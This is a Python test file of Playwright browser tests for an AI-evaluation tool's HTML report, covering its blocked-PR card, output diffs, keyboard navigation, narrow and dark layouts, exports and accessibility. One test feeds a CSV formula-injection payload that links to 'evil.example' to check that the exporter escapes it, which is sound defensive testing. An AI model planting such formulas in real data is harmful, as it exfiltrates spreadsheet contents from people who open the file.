"""report.html as a reviewer reads it, in Debian's Chromium (Playwright): the card that says why
the pull request is blocked, a fixture opened on its evidence (the divergent step, the judge's
violations, the outputs diffed word by word) with the statistics folded, the keyboard (focus,
Escape, j/k through a list of 10,000 of which some 40 rows are drawn), a 400 px screen, the
dark scheme, the export of the list shown, and axe-core finding nothing to fix. Skipped only
when no Chromium is installed."""

from __future__ import annotations

import csv
import io
import json
import re
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

from evalward.report.html import Page, html_chunks
from evalward.resources.models import Severity
from evalward.rundata.results import FixtureResult, Status, Verdict
from evalward.rundata.trace import StepType, Trace
from support.report_pages import needs_chromium, synthetic_page

sync_api = pytest.importorskip("playwright.sync_api", reason="the `dev` extra installs playwright")
pytestmark = [pytest.mark.e2e, needs_chromium]
AXE = resources.files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def ten_thousand(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return synthetic_page(tmp_path_factory.mktemp("large") / "report.html", 10_000)


def page_of(browser: Any, url: str, *, width: int = 1280, scheme: str = "light") -> Any:
    context = browser.new_context(
        viewport={"width": width, "height": 900}, color_scheme=scheme, accept_downloads=True
    )
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(url)
    page.errors = errors
    return page


def axe(page: Any) -> list[str]:
    """axe-core's violations on the page as it stands (none may be left)."""
    page.evaluate(AXE)
    found = page.evaluate("axe.run(document).then(r => r.violations)")
    return [f"{v['id']}: {[n['target'] for n in v['nodes']][:3]}" for v in found]


def test_the_card_says_why_it_is_blocked_worst_first_and_links_each_fixture(
    browser: Any, pull_request_report: Path
) -> None:
    page = page_of(browser, pull_request_report.as_uri())
    card = page.locator("#card")
    sync_api.expect(card.locator("h2")).to_have_text(
        "Blocked: support-bot-eval 0.71 < 0.90 — 2 regressions"
    )
    items = card.locator("ol.reasons > li")
    sync_api.expect(items).to_have_count(3)
    assert [items.nth(i).locator(".sev").inner_text() for i in range(3)] == [
        "medium",
        "medium",
        "low",
    ]
    greeting = items.nth(2).inner_text()
    # evidence first, then the assertion, then the statistics
    assert (
        greeting.index("step 2: base the final answer → head lookup_order")
        < greeting.index("toolNotCalled: lookup_order was called")
        < greeting.index("score 1.00 → 0.40 (-0.60)")
    )
    items.nth(2).locator("a.reason-link").click()
    sync_api.expect(page.locator("#detail h2")).to_contain_text("support-bot-eval / greeting")
    # the evidence links to the step it names
    page.locator("#card .evidence a").last.click()
    sync_api.expect(page.locator("#s-h-2")).to_have_class(re.compile(r"\bhighlight\b"))
    assert page.errors == []


def test_a_fixture_opens_on_its_evidence_and_diffs_the_outputs_word_by_word(
    browser: Any, pull_request_report: Path
) -> None:
    page = page_of(browser, pull_request_report.as_uri() + "#open=support-bot-eval%2Fgreeting")
    detail = page.locator("#detail")
    sync_api.expect(detail.locator("section.evidence")).to_be_visible()
    note = detail.locator(".evidence .divergence-note").inner_text()
    assert note == (
        "The runs first diverge (step type, tool or arguments) at step 2: base final → head "
        "tool call lookup_order."
    )
    order = detail.evaluate(
        "d => ['section.evidence', 'section.output-diff', 'table.timeline', 'details.stats']"
        ".map(s => d.querySelector(s).getBoundingClientRect().top)"
    )
    assert order == sorted(order), "evidence, the diff, the timeline, then the statistics"
    assert detail.locator(".evidence .side.h .violations li").count() == 2
    diff = detail.locator("pre.diff")
    assert diff.locator("del").all_inner_texts() == ["How can I help you today?"]
    assert diff.locator("ins").all_inner_texts() == ["I looked everything up for you."]
    assert diff.inner_text().startswith("Hello! ")  # the words both share are kept once
    assert detail.locator("details.stats").get_attribute("open") is None
    assert page.errors == []


def test_the_keyboard_moves_focus_closes_and_walks_the_whole_virtual_list(
    browser: Any, ten_thousand: Path
) -> None:
    page = page_of(browser, ten_thousand.as_uri())
    sync_api.expect(page.locator("#count")).to_have_text("Showing 10000 of 10000 fixtures.")
    drawn = page.locator("#rows .row").count()
    assert drawn < 100
    page.locator("body").press("j")
    first = page.locator("#rows .row").first.get_attribute("data-key")
    sync_api.expect(page.locator("#detail h2")).to_contain_text(str(first).split("/", 1)[1])
    # focus moved to the fixture opened
    assert page.evaluate("document.activeElement === document.querySelector('#detail h2')")
    for _ in range(drawn + 10):  # past every row drawn when the page opened
        page.keyboard.press("j")
    wanted = drawn + 10
    key = page.evaluate(f"document.querySelector('#rows .row[data-top=\"{wanted}\"]').dataset.key")
    sync_api.expect(page.locator("#detail h2")).to_contain_text(key.split("/", 1)[1])
    row = page.locator(f'#rows .row[data-top="{wanted}"]')
    assert "open" in (row.get_attribute("class") or "")
    box, list_box = row.bounding_box(), page.locator("#list").bounding_box()
    assert box is not None and list_box is not None
    assert list_box["y"] <= box["y"] <= list_box["y"] + list_box["height"] - box["height"]
    page.keyboard.press("k")
    previous = page.evaluate(
        f"document.querySelector('#rows .row[data-top=\"{wanted - 1}\"]').dataset.key"
    )
    sync_api.expect(page.locator("#detail h2")).to_contain_text(previous.split("/", 1)[1])
    # Escape closes it and gives focus back to its row
    page.keyboard.press("Escape")
    sync_api.expect(page.locator("#detail")).to_be_hidden()
    assert "open=" not in page.url
    assert page.evaluate("document.activeElement.dataset.key") == previous
    # typing j in the search box searches, it does not move
    page.locator("#search").fill("j")
    sync_api.expect(page.locator("#detail")).to_be_hidden()
    assert page.errors == []


def test_four_hundred_pixels_wide_every_part_fits_and_works(
    browser: Any, pull_request_report: Path
) -> None:
    page = page_of(browser, pull_request_report.as_uri(), width=400)
    sync_api.expect(page.locator("#rows .row")).to_have_count(7)
    assert page.evaluate("document.documentElement.scrollWidth") <= 400
    for selector in ("#card", "table.evals", "#list", "#rows .row .name", "#search"):
        box = page.locator(selector).first.bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 400, selector
    assert page.locator("#rows .row").first.locator(".name").inner_text() == "hostile-output"
    page.get_by_role("button", name=re.compile("^regressed")).click()
    sync_api.expect(page.locator("#rows .row")).to_have_count(2)
    page.locator("#rows .row").nth(1).click()
    sync_api.expect(page.locator("#detail h2")).to_contain_text("greeting")
    assert page.evaluate("document.documentElement.scrollWidth") <= 400
    assert axe(page) == []
    assert page.errors == []


def test_the_dark_scheme_is_dark_and_still_readable(
    browser: Any, pull_request_report: Path
) -> None:
    page = page_of(
        browser, pull_request_report.as_uri() + "#open=support-bot-eval%2Fgreeting", scheme="dark"
    )
    sync_api.expect(page.locator("#detail h2")).to_be_visible()
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    ink = page.evaluate("getComputedStyle(document.body).color")
    assert background == "rgb(13, 17, 23)" and ink == "rgb(230, 237, 243)"
    page.locator("details.stats summary").click()
    assert axe(page) == []  # colour contrast included


def test_the_list_shown_exports_as_csv_and_json(browser: Any, pull_request_report: Path) -> None:
    page = page_of(browser, pull_request_report.as_uri() + "#filter=regressed")
    sync_api.expect(page.locator("#rows .row")).to_have_count(2)
    with page.expect_download() as csv_download:
        page.locator("#export-csv").click()
    text = Path(csv_download.value.path()).read_text(encoding="utf-8")
    assert csv_download.value.suggested_filename == "evalward-fixtures.csv"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["fixture"], r["change"], r["severity"], r["delta"]) for r in rows] == [
        ("hostile-output", "regressed", "medium", "-1"),
        ("greeting", "regressed", "low", "-0.6"),
    ]
    with page.expect_download() as json_download:
        page.locator("#export-json").click()
    records = json.loads(Path(json_download.value.path()).read_text(encoding="utf-8"))
    assert [r["fixture"] for r in records] == ["hostile-output", "greeting"]
    assert records[1]["head_result"] == "fail" and records[1]["head_score"] == 0.4
    assert records[1]["message"].startswith("toolNotCalled: lookup_order was called")
    assert page.errors == []


def test_an_exported_message_cannot_become_a_spreadsheet_formula(
    browser: Any, tmp_path: Path
) -> None:
    trace = Trace()
    trace.add(StepType.final, content="x")
    result = FixtureResult(
        eval="support",
        fixture="formula",
        side="head",
        status=Status.failed,
        score=0.0,
        verdict=Verdict.failed,
        severity=Severity.high,
        message='=HYPERLINK("https://evil.example/?"&A1,"click")',
        trace=trace,
    )
    path = tmp_path / "report.html"
    path.write_text(
        "".join(
            html_chunks(Page(result="fail", reason="r", evals=[], fixtures=[result], private=set()))
        )
    )
    page = page_of(browser, path.as_uri())
    with page.expect_download() as download:
        page.locator("#export-csv").click()
    (row,) = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    assert row["message"] == "'" + result.message


def test_axe_core_finds_nothing_to_fix_in_any_view(browser: Any, pull_request_report: Path) -> None:
    url = pull_request_report.as_uri()
    assert axe(page_of(browser, url)) == []
    opened = page_of(browser, url + "#open=support-bot-reps%2Fweather")
    sync_api.expect(opened.locator("#detail .reps a.rep")).to_have_count(3)
    opened.locator("details.stats summary").click()
    assert axe(opened) == []
    held_out = page_of(browser, url + "#open=support-bot-eval%2Fheld-out-case")
    sync_api.expect(held_out.locator("#detail h2")).to_be_visible()
    assert axe(held_out) == []
    # the page as it is without JavaScript: the plain list shown, the script's part hidden
    plain = page_of(browser, url)
    plain.evaluate("() => { static.hidden = false; app.hidden = true; }")
    assert plain.locator("#static li").count() == 3
    assert axe(plain) == []
